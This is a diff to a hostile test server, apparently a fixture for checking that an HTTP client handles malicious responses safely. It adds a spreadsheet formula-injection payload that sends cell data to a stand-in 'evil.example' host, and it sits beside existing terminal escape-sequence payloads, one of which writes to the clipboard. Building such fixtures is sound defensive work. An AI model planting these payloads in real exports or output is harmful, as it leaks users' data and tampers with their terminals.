@@ -17,6 +17,7 @@ drip          the head at once, then one body byte every DRIP_S, for ever
 drip-head     the status line, then the headers one byte every DRIP_S, for ever
 after         a correct keep-alive response, then AFTER_BYTES more bytes on the same
               connection (nobody asked for them)
+formula       a stream whose only event is an error whose text is a spreadsheet formula
 status-super  the status line ``HTTP/1.1 ² OK`` ("²".isdigit() is true)
 prom-shapes   a Prometheus API whose answers have odd shapes: a result vector of bare
               numbers, labels that are lists, a GPU labelled ``²``, a target of null labels
@@ -44,6 +45,8 @@ EVIL_MODEL = f"model{ESC}]0;owned-model\x07"
 EVIL_REASON = f"stop{ESC}[2J"
 EVIL_ERROR = f"boom{ESC}]52;c;ZXZpbA==\x07{ESC}[2J"
 ESCAPES = (ESC, "\x9b", "\x07")  # none of these may reach a terminal
+
+FORMULA = '=HYPERLINK("http://evil.example/?leak="&A1,"details")'  # a spreadsheet runs it
 
 DRIP_S = 0.05
 ENDLESS_LIMIT = 512 * 1024 * 1024  # the endless modes stop here (a client that never stops)
@@ -167,7 +170,7 @@ class HostileServer:
             if length:
                 await reader.readexactly(length)
             self.seen.append(path)
-            await self._answer(path, w)
+            await self._answer(path.split("?", 1)[0], w)
             await w.drain()
             w.close()
         except (ConnectionError, asyncio.IncompleteReadError, asyncio.LimitOverrunError):
@@ -224,6 +227,10 @@ class HostileServer:
             for _ in range(AFTER_BYTES // len(BLOCK * 64)):
                 await self._send(mode, w, BLOCK * 64)
                 await asyncio.sleep(0.001)
+        elif mode == "formula" and path.endswith("/v1/models"):
+            w.write(_whole(json.dumps({"object": "list", "data": [{"id": "m"}]}).encode()))
+        elif mode == "formula":  # an error inside the stream: its text is the server's own
+            w.write(_whole(sse({"error": {"message": FORMULA}}), ctype))
         elif mode == "status-super":
             w.write(b"HTTP/1.1 \xc2\xb2 OK\r\nContent-Length: 2\r\n\r\n{}")
         elif mode == "prom-shapes":
